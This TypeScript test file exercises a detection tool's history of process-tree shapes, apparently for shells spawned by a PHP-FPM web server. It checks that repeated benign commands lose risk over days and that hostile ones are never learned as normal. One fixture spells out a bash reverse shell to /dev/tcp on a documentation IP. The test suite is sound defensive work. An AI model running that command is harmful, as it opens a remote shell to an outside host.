import { describe, expect, test } from 'vitest';
import { gradeTree, toNeighbour, toTrees, type Tree } from '../../../common/detection';
import { createShapeHistory, type ShapeCounts } from './shape_history';

const toTree = (text: string, host = 'web-1'): Tree => {
  const [tree] = toTrees([
    {
      index: 'i',
      id: text,
      source: {
        '@timestamp': '2026-11-24T00:00:00.000Z',
        host: { id: host },
        process: {
          entity_id: text,
          executable: '/usr/bin/dash',
          args: ['sh', '-c', text],
          parent: {
            entity_id: 'fpm',
            executable: '/usr/sbin/php-fpm8.2',
            args: ['php-fpm: pool www'],
          },
        },
      },
    },
  ]);
  if (tree === undefined) throw new Error('no tree');
  return tree;
};
const toDay = (day: number): Date => new Date(Date.UTC(2026, 10, 3 + day, 9));

/** Each day a run that sees the tree so many times. */
const repeat = (tree: Tree, { days, times }: { days: number; times: number }): ShapeCounts => {
  let counts: ShapeCounts = {};
  for (let day = 0; day < days; day++) {
    const history = createShapeHistory(counts, toDay(day));
    for (let time = 0; time < times; time++) {
      history.note(tree, gradeTree(tree, { history: history.find(tree) }));
    }
    counts = history.list();
  }
  return counts;
};

describe('createShapeHistory', () => {
  const asked = toTree('whoami');

  test('says how often, on how many days and since when a host has shown a shape', () => {
    const counts = repeat(asked, { days: 4, times: 5 });
    const history = createShapeHistory(JSON.parse(JSON.stringify(counts)), toDay(4));
    expect(history.find(asked)).toEqual({
      count: 20,
      days: 4,
      since: '2026-11-03T00:00:00.000Z',
    });
    expect(history.find(toTree('whoami', 'web-2'))).toBeUndefined();
    expect(history.find(toTree('hostname'))).toBeUndefined();
  });

  test('lowers on the fourth day what was an alert on the first', () => {
    const toRisk = (days: number): number => {
      const history = createShapeHistory(repeat(asked, { days, times: 5 }), toDay(days));
      return gradeTree(asked, { history: history.find(asked) }).risk;
    };
    expect(toRisk(0)).toBeGreaterThanOrEqual(47);
    expect(toRisk(2)).toBe(toRisk(0));
    expect(toRisk(3)).toBeLessThan(47);
  });

  test('learns nothing of what is beyond doubt, nor of what is typed beside other commands', () => {
    const shell = toTree('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1');
    expect(repeat(shell, { days: 4, times: 5 })).toEqual({});
    const neighbours = ['id', 'ls -la'].map((text) => {
      const tree = toTree(text);
      return toNeighbour(tree, gradeTree(tree));
    });
    const history = createShapeHistory({}, toDay(0));
    history.note(asked, gradeTree(asked, { neighbours }));
    expect(history.list()).toEqual({});
  });

  test('keeps a bounded number of shapes, those of many days first', () => {
    const history = createShapeHistory(repeat(asked, { days: 3, times: 1 }), toDay(3));
    for (let at = 0; at < 400; at++) {
      const tree = toTree(`/opt/tool${'x'.repeat(at)} go`);
      history.note(tree, gradeTree(tree));
    }
    expect(Object.keys(history.list())).toHaveLength(300);
    expect(createShapeHistory(history.list(), toDay(4)).find(asked)?.days).toBe(3);
  });
});
